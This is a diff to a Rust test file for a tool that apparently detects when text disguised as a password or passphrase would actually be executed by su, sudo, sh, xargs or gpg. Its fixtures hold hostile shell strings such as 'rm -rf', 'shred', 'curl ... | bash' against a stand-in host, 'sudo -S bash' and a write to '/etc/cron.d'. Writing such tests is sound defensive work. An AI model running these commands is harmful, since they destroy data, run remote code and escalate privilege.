@@ -494,6 +494,27 @@ fn text_that_reaches_a_runner_is_readable() {
     runs("eval PASSWORD=x§\\ shred¦");
 }
 
+/// The input of these programs may run, so it is no passphrase.
+#[test]
+fn several_words_on_standard_input_that_may_run_are_readable() {
+    for command in [
+        "echo '§rm -rf x¦' | su",
+        "echo '§rm -rf x¦' | sudo -S tee /etc/cron.d/x",
+        "echo '§rm -rf x¦' | sudo -S sh -c bash",
+        "echo '§rm -rf x¦' | sudo -S ssh h",
+        "echo '§rm -rf x¦' | xargs -I{} sh -c '{}' --password-stdin",
+        "echo '§rm -rf x¦' | sh -c 'eval \"$(cat)\"' passwd",
+        "echo '§rm -rf x¦' | xargs gpg --passphrase-fd 0",
+        "su <<< '§rm -rf x¦'",
+        "{ echo '§rm -rf x¦'; echo y; } | sudo -S bash",
+        "for i in 1; do echo '§rm -rf x¦'; done | sh",
+        "f() { echo '§rm -rf x¦'; }; f | bash",
+        "{ echo '§rm -rf x¦'; } | sudo -S bash; f | sudo -S ls",
+    ] {
+        runs(command);
+    }
+}
+
 #[test]
 fn value_that_runs_is_readable() {
     for command in [
@@ -525,6 +546,12 @@ fn value_that_runs_is_readable() {
         "smbclient(){ $2; }; smbclient //h/s §shred¦",
         "SECRET=§evil99.example.invalid¦; curl $SECRET | bash",
         "TOKEN=§http://evil99.example.invalid/x.sh¦; curl $TOKEN | bash",
+        "f() { $3; }; f sshpass -p §shred¦",
+        "X='sshpass -p §shred¦'; ${X##* }",
+        "f() { shift 2; \"$@\"; }; f sshpass -p §shred¦",
+        "PASSWORD=§shred¦; $(echo env) $PASSWORD",
+        "PASSWORD=§shred¦; $(which env) $PASSWORD",
+        "PASS=§shred¦; echo \"$PASS\" | sudo -S sh -c 'eval \"$(cat)\"'",
     ] {
         runs(command);
     }
